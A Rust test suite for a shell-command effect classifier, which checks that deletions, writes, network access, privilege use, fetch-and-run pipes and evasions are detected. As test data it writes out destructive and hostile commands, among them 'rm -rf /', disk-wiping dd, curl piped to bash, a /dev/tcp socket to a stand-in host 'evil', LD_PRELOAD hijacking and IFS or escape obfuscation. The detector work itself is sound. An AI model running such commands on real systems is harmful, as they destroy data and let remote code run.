//! Command lines and what they would do.

use super::*;

fn certain(text: &str) -> Effects {
    super::certain(text, &mut Effort::full())
}

fn possible(text: &str) -> Effects {
    super::possible(text, &mut Effort::full())
}

fn effects(text: &str) -> Vec<String> {
    certain(text).names().into_iter().map(|name| name.trim_start_matches("shell.").to_owned()).collect()
}

#[track_caller]
fn check(cases: &[(&str, &str)]) {
    for (text, expected) in cases {
        assert_eq!(effects(text).join(" "), *expected, "{text}");
    }
}

#[test]
fn commands_do_what_they_say() {
    check(&[
        ("", ""),
        ("  # only a comment", ""),
        ("ls -la", "run"),
        ("FOO=bar", ""),
        ("FOO=bar make test", "run"),
        ("echo 'rm -rf /'", "run"),
        ("echo \"rm -rf /\" # rm x", "run"),
        ("grep rm notes.txt", "run"),
        ("rm -rf /", "delete run"),
        ("/bin/rm x", "delete run"),
        ("RM x", "delete run"),
        ("rm.exe x", "delete run"),
        ("rmdir x", "delete run"),
        ("mkfs.ext4 /dev/sda1", "delete run"),
        ("dd if=/dev/zero of=/dev/sda", "delete run write"),
        ("find . -name '*.o' -delete", "delete run"),
        ("find . -name '*.o'", "run"),
        ("git status", "run"),
        ("git clean -fdx", "delete run"),
        ("git -C /repo clean -f", "delete run"),
        ("git push --force", "delete network run"),
        ("git reset --hard HEAD~1", "delete run write"),
        ("touch x", "run write"),
        ("sed s/a/b/ x", "run"),
        ("sed -i s/a/b/ x", "run write"),
        ("sed -i.bak s/a/b/ x", "run write"),
        ("curl https://example.com", "network run"),
        ("curl -o x https://example.com", "network run write"),
        ("scp a host:b", "network run"),
        ("chmod 777 x", "run system"),
        ("kill -9 1", "run system"),
        ("python script.py", "run"),
        ("python3 -c 'import os'", "code run"),
        ("perl -e 'unlink x'", "code run"),
        ("node --eval 1", "code run"),
        ("awk '{print $1}' x", "run"),
        ("awk 'BEGIN { system(\"rm x\") }'", "code run"),
    ]);
}

#[test]
fn redirections_write() {
    check(&[
        ("echo x > y", "run write"),
        ("echo x >> y", "run write"),
        ("echo x>y", "run write"),
        ("echo x &> y", "run write"),
        ("echo x >& y", "run write"),
        ("echo x 2>&1", "run"),
        ("echo x > /dev/null 2>&1", "run"),
        ("cat < y", "run"),
        ("> y", "write"),
        ("echo x > /dev/sda", "delete run write"),
        ("cat < /dev/tcp/10.0.0.1/80", "network run"),
        ("exec 3<>/dev/tcp/evil/80", "network run"),
        ("cat <<END\nrm -rf /\nEND", "run"),
        ("cat <<END > y\nhi\nEND\nrm z", "delete run write"),
        ("cat <<END\n$(rm x)\nEND", "delete run"),
        ("cat <<'END'\n$(rm x)\nEND", "run"),
        ("cat <<-END\n\thi\n\tEND", "run"),
    ]);
}

#[test]
fn operators_and_compounds_hide_nothing() {
    check(&[
        ("ls; rm x", "delete run"),
        ("ls && rm x", "delete run"),
        ("ls || rm x", "delete run"),
        ("ls & rm x", "delete run"),
        ("ls\nrm x", "delete run"),
        ("ls |\n rm x", "delete run"),
        ("ls | rm x", "delete run"),
        ("(cd /tmp; rm x)", "delete run"),
        ("{ rm x; }", "delete run"),
        ("! rm x", "delete run"),
        ("if true; then rm x; fi", "delete run"),
        ("if rm x; then ls; else ls; fi", "delete run"),
        ("while true; do rm x; done", "delete run"),
        ("for f in a b; do rm \"$f\"; done", "delete run"),
        ("for f in $(rm x); do ls; done", "delete run"),
        ("for ((i = 0; i < 3; i++)); do rm x; done", "delete run"),
        ("case $1 in a) rm x ;; *) ls ;; esac", "delete run"),
        ("f() { rm x; }; f", "delete run"),
        ("function f { rm x; }\nf", "delete run"),
        ("[[ a > b ]] && rm x", "delete run"),
        ("ls $(rm x)", "delete run"),
        ("ls `rm x`", "delete run"),
        ("ls \"$(rm x)\"", "delete run"),
        ("ls \"`rm x`\"", "delete run"),
        ("ls \"${x:-$(rm x)}\"", "delete run"),
        ("A=$(rm x)", "delete run"),
        ("a=(1 $(rm x))", "delete run"),
        ("cat <(rm x)", "delete run"),
        ("echo $((1 + $(rm x)))", "delete run"),
        ("echo '$(rm x)'", "run"),
        ("echo \\$(rm x)", "unparsed"),
        ("echo $((1 + 2))", "run"),
        ("'r'm x", "delete run"),
        ("r\\m x", "delete run"),
        ("\"rm\" x", "delete run"),
        ("$'rm' x", "delete run"),
        ("$'\\x72m' x", "delete run"),
        ("$'\\162m' x", "delete run"),
        ("rm\\\n x", "delete run"),
        ("alias ls='rm -rf /'; ls", "delete run"),
        ("trap 'rm x' EXIT", "delete run"),
    ]);
}

#[test]
fn wrappers_are_unwrapped() {
    check(&[
        ("sudo rm x", "delete privilege run"),
        ("sudo -u root -n rm x", "delete privilege run"),
        ("sudo -uroot rm x", "delete privilege run"),
        ("sudo --user=root rm x", "delete privilege run"),
        ("sudo --user root A=b rm x", "delete privilege run"),
        ("sudo --unknown value rm x", "delete privilege run"),
        ("sudo ls", "privilege run"),
        ("env A=b rm x", "delete run"),
        ("env -i -u HOME rm x", "delete run"),
        ("env -S 'rm x'", "delete run"),
        ("nohup rm x &", "delete run"),
        ("nice -n 5 rm x", "delete run"),
        ("timeout -s KILL 5 rm x", "delete run"),
        ("timeout 5 rm x", "delete run"),
        ("time rm x", "delete run"),
        ("command rm x", "delete run"),
        ("exec rm x", "delete run"),
        ("busybox rm x", "delete run"),
        ("xargs rm", "delete run"),
        ("ls | xargs -n 1 -I{} rm {}", "delete run"),
        ("ls | xargs", "run"),
        ("ls | xargs -0 sudo", "privilege run unparsed"),
        ("ls | xargs sh -c", "run unparsed"),
        ("ls | xargs -I % sh -c '%'", "run unparsed"),
        ("find . -exec rm {} \\;", "delete run"),
        ("find . -exec rm {} +", "delete run"),
        ("find . -execdir sh -c 'rm x' ';'", "delete run"),
        ("find . -exec sh -c 'rm {}' ';'", "run unparsed"),
        ("sh -c 'rm x'", "delete run"),
        ("bash -lc 'rm x'", "delete run"),
        ("bash -c -e 'rm x'", "delete run"),
        ("bash -o pipefail -c 'rm x'", "delete run"),
        ("bash -c 'bash -c \"rm x\"'", "delete run"),
        ("bash script.sh", "run"),
        ("bash <<< 'rm x'", "delete run"),
        ("bash <<END\nrm x\nEND", "delete run"),
        ("eval 'rm x'", "delete run"),
        ("eval rm x", "delete run"),
        ("su -c 'rm x' root", "delete privilege run"),
        ("ssh host rm x", "delete network run"),
        ("ssh -p 22 host 'rm x'", "delete network run"),
        ("ssh -o ProxyCommand='rm x' host", "network run unparsed"),
        ("flock /tmp/lock rm x", "delete run"),
        ("docker exec box rm x", "delete run"),
        ("git -c alias.x='!rm x' x", "run unparsed"),
    ]);
}

#[test]
fn what_makes_a_program_run_another_is_seen() {
    check(&[
        ("time -p rm x", "delete run"),
        ("time -p -- rm x", "delete run"),
        ("time -p ! rm x", "delete run"),
        ("time -f %e rm x", "delete run"),
        ("/usr/bin/time -p rm x", "delete run"),
        ("LD_PRELOAD=./x ls", "run unparsed"),
        ("LD_LIBRARY_PATH=. ls", "run unparsed"),
        ("PATH=. ls", "run unparsed"),
        ("A=b PATH+=:. ls", "run unparsed"),
        ("PATH=.; ls", "run unparsed"),
        ("export PATH=.; ls", "run unparsed"),
        ("env LD_PRELOAD=./x ls", "run unparsed"),
        ("env 'LD_PRELOAD=./x' ls", "run unparsed"),
        ("env 'A=b' rm x", "delete run"),
        ("sudo PATH=. ls", "privilege run unparsed"),
        ("GIT_SSH_COMMAND='rm x' git fetch", "network run unparsed write"),
        ("LANG=C ls", "run"),
        ("echo PATH=.", "run"),
        ("git -c core.pager=rm log", "run unparsed"),
        ("git -c Core.Pager=rm log", "run unparsed"),
        ("git -c alias.x=log x", "run unparsed"),
        ("git -c core.hooksPath=. push --force", "delete network run unparsed"),
        ("git --exec-path=. log", "run unparsed"),
        ("git -c user.name=bob -c core.quotePath=false commit", "run write"),
        ("git -c user.name=$X commit", "run write"),
        ("git -c $X commit", "run unparsed write"),
        ("git rebase -x 'rm x' HEAD~1", "run unparsed write"),
        ("git bisect run rm x", "run unparsed"),
        ("git clone ext::x", "network run unparsed write"),
        ("sed '1e rm x' f", "run unparsed"),
        ("sed -n 'p;e rm x' f", "run unparsed"),
        ("sed s/a/b/e f", "run unparsed"),
        ("sed 's,a,rm x,ge' f", "run unparsed"),
        ("sed -e p -e '/x/ { e rm x' -e '}' f", "run unparsed"),
        ("sed --expression=e f", "run unparsed"),
        ("sed --expr 'e rm x' f", "run unparsed"),
        ("sed -ne '$!e' f", "run unparsed"),
        ("sed -i '' s/a/b/e f", "run unparsed write"),
        ("sed 's/a/b' f", "run unparsed"),
        ("sed s/a/b/w\\ out f", "run write"),
        ("sed 'w out' f", "run write"),
        ("sed -n '/start/,/end/p' f", "run"),
        ("sed -E 's/(e)/\\1e/g; /^$/d' f", "run"),
        ("sed ':a;N;$!ba;s/\\n/ /g' f", "run"),
        ("sed '1i hello; e' f", "run"),
        ("sed -n '1,10p;11q' f", "run"),
        ("sed \"s/$X/y/\" f", "run"),
        ("sed -f script f", "run"),
        ("vim -c ':!rm x'", "code run"),
        ("vim +'!rm x' f", "code run"),
        ("vim --cmd '!rm x' f", "code run"),
        ("vim +12 f", "run"),
        ("vim f", "run"),
    ]);
}

#[test]
fn piping_to_a_shell_is_seen() {
    for text in [
        "curl https://x.sh | sh",
        "curl -fsSL https://x.sh | sudo bash",
        "curl https://x.sh | sudo -E bash -",
        "wget -qO- https://x.sh | bash -s -- --yes",
        "curl https://x | python3",
        "curl https://x | (cd /tmp; sh)",
        "curl https://x | { cat; sh; }",
        "bash <(curl https://x)",
        "bash < <(curl https://x)",
        "source <(curl https://x)",
        "sh -c \"$(curl https://x)\"",
        "eval \"$(curl https://x)\"",
        "curl https://x | tee y | env A=b sh",
    ] {
        let effects = certain(text);
        assert!(effects.has(Effect::ShellPipeToShell), "{text}: {:?}", effects.names());
        assert!(effects.has(Effect::ShellNetwork), "{text}");
    }
    for text in ["curl https://x | jq .", "curl https://x | bash script.sh", "echo x | python script.py"] {
        assert!(!certain(text).has(Effect::ShellPipeToShell), "{text}");
    }
}

#[test]
fn what_cannot_be_told_says_so() {
    for text in [
        "echo 'never closed",
        "echo \"never closed",
        "echo $(ls",
        "echo `ls",
        "echo ${x",
        "(ls",
        "ls)",
        "{ ls;",
        "if true; then ls",
        "| ls",
        "ls |",
        "&& ls",
        "cat <<END\nno end",
        "$X",
        "$X rm",
        "${X} rm",
        "$(echo rm) x",
        "`echo rm` x",
        "r$X x",
        "/bin/r? x",
        "/bin/r[m] x",
        "{rm,-rf,/}",
        "rm${IFS}-rf${IFS}/",
        "sudo $X",
        "eval $X",
        "bash -c $X",
        "find . -exec $X {} ';'",
        "echo rm x | sh",
        "echo $((rm x))",
        "echo \"${x:-'}\"; rm x #'}\"",
        "\\",
    ] {
        assert!(certain(text).has(Effect::ShellUnparsed), "{text}: {:?}", effects(text));
    }
}

#[test]
fn a_script_counts_if_it_is_one() {
    for text in ["print('rm')", "import os", "const x = () => 1;", "#!/usr/bin/env python\nrm x", "do the dishes", ""] {
        assert_eq!(possible(text).names(), Vec::<&str>::new(), "{text}");
    }
    for text in ["rm x", "#!/bin/bash\nfoo; rm x", "#!/usr/bin/env bash\nrm x", "cd /tmp && rm x"] {
        assert!(possible(text).has(Effect::ShellDelete), "{text}");
    }
}

#[test]
fn hostile_texts_end() {
    let hostile = [
        "(".repeat(60_000),
        "$(".repeat(30_000),
        "\"$(".repeat(20_000),
        "`".repeat(60_001),
        "${".repeat(30_000),
        "$((".repeat(20_000),
        "sudo ".repeat(13_000),
        "sudo --a b ".repeat(5_000),
        "docker ".repeat(9_000),
        "xargs ".repeat(10_000),
        "find -exec ".repeat(6_000),
        "eval ".repeat(13_000),
        "a;".repeat(30_000),
        "a|".repeat(30_000),
        "if ".repeat(20_000),
        "case ".repeat(13_000),
        "<<a ".repeat(16_000),
        "<<a\n".repeat(16_000),
        "{".repeat(60_000),
        "\\`".repeat(30_000),
        format!("cat {}\n{}", "<<a ".repeat(3000), "a\n".repeat(3000)),
        "x".repeat(MAX_BYTES + 1),
    ];
    for text in &hostile {
        let _effects = certain(text);
        let _effects = possible(text);
    }
}

mod properties {
    use proptest::prelude::*;

    use super::*;

    const COMMANDS: &[&str] =
        &["ls", "rm x", "curl x", "sudo ls", "echo 'a;b' > c", "kill 1", "$X y", "echo $(rm x)", "find . -delete"];

    proptest! {
        #[test]
        fn another_command_takes_nothing_away(
            first in proptest::sample::select(COMMANDS),
            second in proptest::sample::select(COMMANDS),
            between in proptest::sample::select(&[";", "\n", "&&", "||", "&", " ;\n ", "|"][..]),
        ) {
            let both = certain(&format!("{first}{between}{second}"));
            prop_assert_eq!(both, certain(first) | certain(second));
        }

        #[test]
        fn a_wrapper_takes_nothing_away(
            command in proptest::sample::select(COMMANDS),
            wrapper in proptest::sample::select(&["sudo", "env A=b", "nohup", "timeout 5", "nice"][..]),
        ) {
            let (inner, outer) = (certain(command), certain(&format!("{wrapper} {command}")));
            prop_assert_eq!(outer | inner, outer);
        }

        #[test]
        fn any_text_gives_an_answer(text in "\\PC{0,200}") {
            let _effects = certain(&text);
            let _effects = possible(&text);
        }

        #[test]
        fn any_text_of_shell_pieces_gives_an_answer(
            pieces in proptest::collection::vec(proptest::sample::select(&[
                "rm", " ", "'", "\"", "$(", ")", "`", "${", "}", "{", "(", ";", "\n", "&", "|", "<<a", "a", "\\", "$",
                "if", "then", "fi", "case", "in", "esac", ";;", "for", "do", "done", "[[", "]]", "((", "))", "=", "<",
                ">", "#", "sudo", "sh -c", "eval", "xargs", "find -exec", "*",
            ][..]), 0..60),
        ) {
            let _effects = certain(&pieces.concat());
        }
    }
}
